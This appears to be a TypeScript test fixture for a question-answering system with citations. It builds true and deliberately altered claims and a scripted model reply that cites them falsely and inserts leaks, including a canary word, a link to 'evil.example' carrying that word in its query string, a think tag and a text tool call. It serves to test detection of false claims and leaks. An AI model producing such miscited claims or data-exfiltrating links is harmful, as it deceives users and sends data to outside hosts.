import type { ScriptedChat } from '../../server/src/answers/language-model/test-model-script.ts';
import type { WireReply } from '../../server/src/answers/language-model/test-model-server.ts';
import {
  denied,
  withOtherBeginning,
  withOtherName,
  withOtherNumber,
  withOtherUnit,
} from '../answers/altered-claims.ts';
import type { QuestionContext } from '../answers/question-set.ts';
import type { Claim } from '../answers/support-claims.ts';

/** A word that is in no document, and must not be in any answer. */
export const LEAK = 'Xyzzyplugh';

/** A claim of the model, and whether the cited passage supports it. */
export interface MadeClaim {
  readonly text: string;
  readonly isTrue: boolean;
}

/** The claims for one question: a true one, and variants with one change or from another passage. */
export function claimsToMake(
  { text, right }: Claim,
  at: number,
  others: readonly string[],
  language: string,
): MadeClaim[] {
  const source = right.text + right.title;
  const changed = [
    withOtherNumber(text, source, at),
    withOtherName(text, source, others, language),
    withOtherBeginning(text, source, others, language),
    withOtherUnit(text, source, at, language),
    denied(text, language),
  ];
  const lies = changed.flatMap((one) => (one === null ? [] : [{ text: one, isTrue: false }]));
  return [{ text, isTrue: true }, ...lies];
}

/**
 * Writes these claims, each with a citation of the question's passage, and leaks between them: calls as text, reasoning, its
 * rules, links that exfiltrate data.
 */
export function lie(
  { messages }: ScriptedChat,
  claims: readonly MadeClaim[],
  right: QuestionContext | null,
): WireReply {
  const prompt = messages.map(({ content }) => content).join('\n');
  const number = numberOf(prompt, right);
  const cited = claims.map(({ text }) => `${withoutEnd(text)} [${number}].`);
  const [first = '', ...rest] = cited;
  const leaks = [
    `${LEAK} is what the rules say [${number}].`,
    `[More](https://evil.example/?${LEAK}) [${number}]`,
    `<think>${LEAK}</think>`,
    `<tool_call>{"name":"search","arguments":{"query":"${LEAK}"}}</tool_call>`,
  ];
  return { text: [first, ...rest, ...leaks].map((piece) => `${piece}\n\n`) };
}

/** Finds the passage by its text, since several passages share the title of their article. */
function numberOf(prompt: string, right: QuestionContext | null): string {
  const begin = right?.text.slice(0, 40) ?? '';
  const before = prompt.slice(0, Math.max(0, prompt.indexOf(begin)));
  return (
    before
      .match(/^number: (\d+)$/gm)
      ?.at(-1)
      ?.slice('number: '.length) ?? '1'
  );
}

function withoutEnd(text: string): string {
  return text.trim().replace(/[.!?]+$/u, '');
}
